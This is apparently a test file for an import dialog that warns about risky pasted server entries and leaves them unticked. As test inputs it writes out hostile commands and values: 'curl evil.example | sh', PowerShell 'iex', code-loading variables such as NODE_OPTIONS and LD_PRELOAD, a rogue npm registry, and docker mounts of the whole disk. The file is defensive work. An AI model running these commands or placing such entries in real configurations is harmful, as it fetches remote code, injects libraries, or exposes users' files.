import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { isSameJson, type RawEntry } from '../../../renderer/entry/raw-entry.ts';
import { ChoiceList } from '../../../renderer/import/choice-list.tsx';
import { choicesOfSnippet } from '../../../renderer/import/choices.ts';
import { warningsOf } from '../../../shared/entry-warnings.ts';
import { previewOf } from '../../../renderer/import/entry-preview.tsx';
import { readyOnes } from '../../../renderer/import/ticks.ts';
import { render } from '../render-view.tsx';

const npx = (...args: readonly string[]) => ({ command: 'npx', args: ['-y', ...args] });
const docker = (...args: readonly string[]) => ({ command: 'docker', args: ['run', '-i', ...args, 'stock'] });
const plain = npx('@acme/stock-server');

/** The dialog's list for an entry, as a person reads it. */
function shownOf(entry: RawEntry): { readonly words: string; readonly ticked: number } {
  const choices = choicesOfSnippet({ entries: [{ name: 'stock', entry }], problems: [] }, []);
  const ticked = readyOnes(choices, {});
  const act = vi.fn();
  const taking = { ticked, answers: {}, failures: new Map<string, string>(), isBusy: false };
  const actions = { toggle: act, tickReady: act, answer: act, takeOver: act };
  const markup = render(<ChoiceList choices={choices} taking={{ ...taking, ...actions }} />);
  const words = markup
    .replaceAll(/<[^>]*>/g, '\n')
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&');
  return { words, ticked: ticked.size };
}

const blanks = '\u2003'.repeat(200);

describe('a server that is pasted', () => {
  const isHeldBack = (entry: RawEntry, ...told: readonly string[]) => {
    const { words, ticked } = shownOf(entry);
    for (const part of told) expect(words).toContain(part);
    expect(ticked).toBe(0);
  };

  it.each<readonly [string, string, readonly string[], string]>([
    ['a shell', 'sh', ['-c', 'curl evil.example | sh'], '"curl evil.example | sh"'],
    ['a shell with options', '/bin/bash', ['-l', '-o', 'pipefail', '-ec', 'a; b'], '"a; b"'],
    ['a shell behind another program', 'env', ['A=1', 'sh', '-c', 'a'], '"sh"'],
    ['the command line of Windows', 'cmd', ['/c', 'npx x & evil'], '"npx x & evil"'],
    ['PowerShell', 'powershell.exe', ['-NoProfile', '-Com', 'iex x'], '"iex x"'],
    ['PowerShell, encoded', 'pwsh', ['-enc', 'aQBlAHgA'], '"aQBlAHgA"'],
    ['Node', 'node', ['--import', 'x', '-e', 'evil()'], '"evil()"'],
    ['Python', 'python3', ['-c', 'import evil'], '"import evil"'],
  ])('says that it runs a script, and is not ticked: %s', (_, command, args, script) =>
    isHeldBack({ command, args }, 'It runs a shell script.', script),
  );

  it.each([
    ['NODE_OPTIONS', '--require /tmp/evil.js'],
    ['LD_PRELOAD', '/tmp/evil.so'],
    ['DYLD_INSERT_LIBRARIES', '/tmp/e'],
    ['Path', '/tmp/bin'],
    ['PYTHONPATH', '/tmp'],
    ['BASH_ENV', '/tmp/e'],
    ['npm_config_registry', 'http://evil.example'],
    ['JAVA_TOOL_OPTIONS', '-javaagent:/tmp/e.jar'],
  ])('says that a variable loads code, and is not ticked: %s', (name, value) =>
    isHeldBack({ ...plain, env: { [name]: value } }, `${name} can load other code.`, `"${value}"`),
  );

  it('says so of a variable among the arguments', () => {
    const variable = 'NODE_OPTIONS=--require /tmp/evil.js';
    const entry = { command: 'env', args: [variable, 'npx', 'x'] };
    isHeldBack(entry, 'NODE_OPTIONS can load other code.', `"${variable}"`);
  });

  it.each([
    ['as a volume', ['-v', '/:/host']],
    ['in other words', ['--volume=/home/../:/host']],
    ['a drive of Windows', ['-vC:\\:/host']],
    ['as a mount', ['--mount', 'type=bind,source=/,target=/host']],
    ['by all rights', ['--privileged']],
  ])('says that a container sees the whole disk, and is not ticked: %s', (_, flags) =>
    isHeldBack(docker(...flags), 'It sees your whole disk.', JSON.stringify(flags.at(-1))),
  );

  it.each([
    ['blanks before more', `x${blanks}--evil`, '‹U+2003›--evil'],
    ['no width', 'sto\u200bck', '"sto‹U+200B›ck"'],
    ['marks of direction', 'a\u200fb\u061cc', '"a‹U+200F›b‹U+061C›c"'],
    ['tags', 'a\u{e0041}b', '"a‹U+E0041›b"'],
  ])('says that characters cannot be seen, and is not ticked: %s', (_, word, shown) =>
    isHeldBack(npx(word), 'It has characters that cannot be seen.', shown),
  );

  it('says that letters are of two scripts, and is not ticked', () =>
    isHeldBack(npx('@acme/st\u043eck'), '"st\u043eck" mixes Latin and Cyrillic letters.'));

  it.each<readonly [string, RawEntry, readonly string[]]>([
    ['the folder', { ...plain, cwd: '/tmp/evil' }, ['Folder', '"/tmp/evil"']],
    [
      'headers by name',
      { url: 'https://stock.example/mcp', headers: { 'X-Route': 'other' } },
      ['Headers', 'X-Route = '],
    ],
    [
      'settings',
      { ...plain, panel: { health: { onStall: 'notify' } } },
      ['Panel settings', 'health.onStall = "notify"'],
    ],
    ['one word with a blank', { command: 'npx', args: ['a b'] }, ['\n"a b"\n']],
    ['two words', { command: 'npx', args: ['a', 'b'] }, ['\n"a"\n', '\n"b"\n']],
    [
      'Windows starting a program',
      { command: 'cmd', args: ['/c', 'npx', '-y', '@acme/stock-server'] },
      ['"/c"'],
    ],
    [
      'a variable of Python that loads nothing',
      { ...plain, env: { PYTHONUNBUFFERED: '1' } },
      ['PYTHONUNBUFFERED = '],
    ],
    ['a folder of a container', docker('-v', '/srv/data:/data'), ['"/srv/data:/data"']],
  ])('shows what it runs, and is ticked: %s', (_, entry, told) => {
    const { words, ticked } = shownOf(entry);
    for (const part of told) expect(words).toContain(part);
    expect(ticked).toBe(1);
  });

  it('hides values of variables and headers until they are asked for', () => {
    expect(shownOf({ ...plain, env: { STOCK: 'drawn-by-lot' } }).words).not.toContain('drawn-by-lot');
    const rows = previewOf({ url: 'https://stock.example', headers: { A: 'drawn-by-lot' } }, true);
    expect(rows.at(-1)).toEqual({ label: 'Headers', lines: ['A = "drawn-by-lot"'] });
  });
});

describe('the preview', () => {
  const word = fc.oneof(
    fc.constantFrom(
      'a',
      'a b',
      'a  b',
      '-c',
      '"',
      '", "',
      '\\',
      '\\n',
      '\n',
      '‹U+200B›',
      '\u200b',
      '',
      ' ',
      '\u00a0',
      '•',
      'none',
      'a = "b"',
    ),
    fc.string({ unit: 'binary', maxLength: 5 }),
  );
  const variables = fc.dictionary(word, word, { maxKeys: 3 });
  const entries: fc.Arbitrary<RawEntry> = fc.record(
    {
      ...{ type: word, command: word, args: fc.array(word, { maxLength: 4 }), env: variables, cwd: word },
      ...{
        url: word,
        headers: variables,
        panel: fc.dictionary(word, fc.oneof(word, fc.integer(), variables), { maxKeys: 2 }),
      },
    },
    { requiredKeys: [] },
  );
  /** What stands on the screen: labels are not quoted, and each value has a line of its own. */
  const screen = (entry: RawEntry, isRevealed: boolean) =>
    previewOf(entry, isRevealed)
      .flatMap(({ label, lines }) => [label, ...lines.map((line) => `  ${line}`)])
      .join('\n');
  const hidden = (entry: RawEntry): RawEntry =>
    Object.fromEntries(
      Object.entries(entry).map(([key, value]) =>
        key === 'env' || key === 'headers' ? [key, Object.keys(value as object).toSorted()] : [key, value],
      ),
    );

  it('never looks the same for two entries that run differently', () => {
    fc.assert(
      fc.property(entries, entries, fc.boolean(), (one, other, isNear) => {
        const second = isNear ? { ...one, ...other } : other;
        if (screen(one, true) === screen(second, true)) expect(isSameJson(one, second)).toBe(true);
        if (screen(one, false) === screen(second, false))
          expect(isSameJson(hidden(one), hidden(second))).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  it('never looks the same for two splittings of the same words', () => {
    const lists = fc.array(word, { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(lists, lists, (one, other) => {
        const isSame = screen({ args: one }, true) === screen({ args: other }, true);
        expect(isSame).toBe(isSameJson(one, other));
      }),
      { numRuns: 2000 },
    );
  });

  it('shows no character that cannot be seen', () => {
    fc.assert(
      fc.property(entries, (entry) => {
        expect(screen(entry, true).replaceAll('\n', '')).not.toMatch(
          /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\u00a0\u2003]/u,
        );
      }),
    );
  });
});

describe('warnings', () => {
  it.each([
    [{ command: 'node', args: ['server.js', '-e', 'x'] }],
    [{ command: 'python', args: ['-m', 'stock_mcp', '-c', 'config.toml'] }],
    [{ command: 'docker', args: ['run', '-v', '/srv:/', '--mount', 'type=bind,src=/srv,dst=/', 'stock'] }],
    [{ command: 'npx', args: ['-y', 'bash', '--port', '1'] }],
    [{ command: 'npx', args: ['-y', '@acme/файл/сервер'] }],
  ])('say nothing about %j', (entry) => {
    expect(warningsOf(entry)).toEqual([]);
  });
});
